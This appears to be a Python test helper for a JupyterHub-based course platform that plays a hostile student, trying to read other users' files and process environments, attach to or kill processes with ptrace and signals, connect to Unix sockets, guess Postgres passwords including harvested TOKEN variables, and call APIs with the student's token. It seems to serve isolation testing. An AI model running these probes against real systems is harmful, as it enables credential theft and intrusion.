"""What a student with a terminal tries. Runs in the student's account with their server's
environment (or in that of another part of the product), knows every place and address, and prints
what it gained as JSON.
"""

import ctypes
import itertools
import json
import os
import signal
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psycopg

TEXT = 20_000
PTRACE_ATTACH = 16


def attempt(do: Callable[[], Any]) -> str:
    """What came of it; the name of the error if nothing did."""
    try:
        found = do()
    except (OSError, psycopg.Error, ValueError) as error:
        return type(error).__name__
    # Threads of the system itself have nothing.
    return f"gained {found}" if found != "" else "nothing"


def read(path: Path) -> str:
    with path.open("rb") as file:
        return file.read(TEXT).decode("latin-1")


def look(path: Path) -> Any:
    return sorted(str(each) for each in path.iterdir()) if path.is_dir() else read(path)


def files(places: list[str]) -> dict[str, str]:
    """Each place itself, and everything below it that can be walked to."""
    found = {}
    for place in map(Path, places):
        found[str(place)] = attempt(lambda place=place: look(place))
        for folder, _, names in os.walk(place):
            for name in names:
                path = Path(folder, name)
                found[str(path)] = attempt(lambda path=path: read(path))
    return found


def processes() -> dict[str, str]:
    """What can be seen of those that are not the student's own."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if folder.stat().st_uid == os.getuid():
                continue
        except OSError:
            continue
        for name in ("environ", "maps", "auxv", "stack", "cmdline", "fd"):
            found[f"{folder}/{name}"] = attempt(lambda path=folder / name: look(path))
        # What lies at its beginning cannot be read even by its owner.
        found[f"{folder}/mem"] = attempt(lambda path=folder / "mem": path.open("rb").close())
        found[f"{folder}/cwd"] = attempt(lambda path=folder / "cwd": path.readlink())
    return found


def hands_on(pids: dict[str, int]) -> dict[str, str]:
    libc = ctypes.CDLL(None, use_errno=True)

    def trace(pid: int) -> str:
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0):
            raise OSError(ctypes.get_errno(), "ptrace")
        return "the process"

    found = {}
    for name, pid in pids.items():
        found[f"trace {name}"] = attempt(lambda pid=pid: trace(pid))
        for number in (signal.SIGSTOP, signal.SIGKILL):
            found[f"{number.name} {name}"] = attempt(
                lambda pid=pid, number=number: os.kill(pid, number)
            )
    return found


def sockets() -> dict[str, str]:
    """Named sockets of everybody on this machine."""

    def knock(path: str) -> str:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(2)
            one.connect(path)
            return path

    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    names = {line.split()[7] for line in lines if len(line.split()) > 7}
    paths = sorted(name for name in names if name.startswith("/"))
    return {path: attempt(lambda path=path: knock(path)) for path in paths}


def database(host: str, port: int, users: list[str]) -> dict[str, str]:
    """With words that anybody would try, and with every token that lies about."""
    found = {text for name, text in os.environ.items() if "TOKEN" in name}
    words = ["", "postgres", "password", "pythonmastery", *sorted(found)]

    def enter(user: str, word: str) -> str:
        with psycopg.connect(
            host=host, port=port, user=user, password=word, dbname="postgres", connect_timeout=5
        ):
            return "the database"

    return {
        f"{user} with {word!r}": attempt(lambda user=user, word=word: enter(user, word))
        for user, word in itertools.product(users, words)
    }


def calls(wanted: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """Each with the token of the student's own server, or the one that is given."""
    for call in wanted:
        token = call["token"] if "token" in call else os.environ["JUPYTERHUB_API_TOKEN"]
        request = urllib.request.Request(  # noqa: S310 - addresses of this machine
            call["url"],
            method=call["method"],
            data=json.dumps(call["body"]).encode() if call.get("body") is not None else None,
            headers={"Content-Type": "application/json"}
            | ({"Authorization": f"token {token}"} if token else {}),
        )
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
                yield {**call, "status": answer.status, "text": answer.read(TEXT).decode("latin-1")}
        except urllib.error.HTTPError as error:
            yield {**call, "status": error.code, "text": error.read(TEXT).decode("latin-1")}


def main() -> None:
    plan = json.load(sys.stdin)
    environment = dict(os.environ)
    gained = {
        "who": os.getuid(),
        "environment": environment,
        "files": files(plan["places"]),
        "processes": processes(),
        "hands on": hands_on(plan["pids"]),
        "sockets": sockets(),
        "database": database(**plan["database"]),
        "calls": list(calls(plan["calls"])),
    }
    sys.stdout.write(json.dumps(gained))


if __name__ == "__main__":
    main()
